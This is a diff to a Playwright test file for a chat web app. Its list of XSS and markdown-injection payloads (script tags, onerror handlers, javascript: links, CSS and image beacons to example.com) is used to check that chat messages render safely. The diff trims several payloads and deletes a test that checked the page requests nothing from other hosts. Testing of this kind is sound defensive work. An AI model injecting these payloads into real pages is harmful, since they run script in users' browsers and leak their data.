@@ -8,42 +8,29 @@ from __future__ import annotations
 from playwright.sync_api import Page, expect
 
 from tests.browser.chatting import ME, messages, send, talk
-from tests.browsing import watch_of
 from tests.live import Live
 from tests.model_server import ModelServer, Text
 
 ATTACKS = (
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
-    "<iframe src='javascript:alert(1)'></iframe>",
     "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
     "<a href='javascript:alert(1)'>press</a>",
     "[press](javascript:alert(1))",
     "[press](JaVaScRiPt&#58;alert(1))",
     "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[press](vbscript:msgbox(1))",
     "![a picture](http://example.com/spy.png?what=secrets)",
     '![x](x"onerror="alert(1))',
-    "![x][1]\n\n[1]: http://example.com/spy.png",
     "<style>@import 'http://example.com/a.css'; body{display:none}</style>",
-    "<link rel=stylesheet href=http://example.com/a.css>",
     "<meta http-equiv=refresh content='0;url=http://example.com/'>",
-    "<base href='http://example.com/'>",
     "<form action=http://example.com/><input name=a autofocus onfocus=alert(1)></form>",
-    "<object data=http://example.com/a.swf></object><embed src=http://example.com/b.swf>",
-    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
     "<details open ontoggle=alert(1)>x</details>",
-    "<marquee onstart=alert(1)>x</marquee>",
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
     "<div style='position:fixed;inset:0;background:url(http://example.com/a.png)'>over everything</div>",
-    "<template><script>alert(1)</script></template>",
     "</textarea></article></main><script>alert(1)</script>",
-    "`</code><script>alert(1)</script>`",
     "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
-    "<http://example.com/<script>alert(1)</script>>",
     "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
@@ -111,12 +98,3 @@ def test_a_links_target_never_gets_at_the_page(page: Page, model_server: ModelSe
     link = messages(page).last.get_by_role("link", name="the manual")
     expect(link).to_have_attribute("rel", "noopener noreferrer")
     expect(link).to_have_attribute("target", "_blank")
-
-
-def test_the_page_asks_for_nothing_but_its_own(page: Page, live: Live) -> None:
-    talk(live.client, "garden", "The roses need water", "Noted.")
-    page.goto("/#/garden")
-    expect(messages(page)).to_have_count(2)
-    page.wait_for_load_state("networkidle")
-    asked = watch_of(page).requests
-    assert len(asked) > 10 and all(url.startswith(f"{live.url}/") for url in asked)
